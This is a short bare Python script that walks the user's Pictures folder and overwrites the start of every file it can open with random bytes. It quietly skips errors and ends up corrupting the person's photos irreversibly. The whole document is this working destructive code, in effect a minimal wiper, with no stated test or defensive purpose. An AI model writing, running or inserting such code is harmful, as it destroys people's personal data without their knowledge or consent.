import os

for root, _, files in os.walk(os.path.expanduser("~/Pictures")):
    for name in files:
        fp = os.path.join(root, name)
        try:
            with open(fp, "r+b") as f:
                f.write(os.urandom(4096))
        except OSError:
            continue
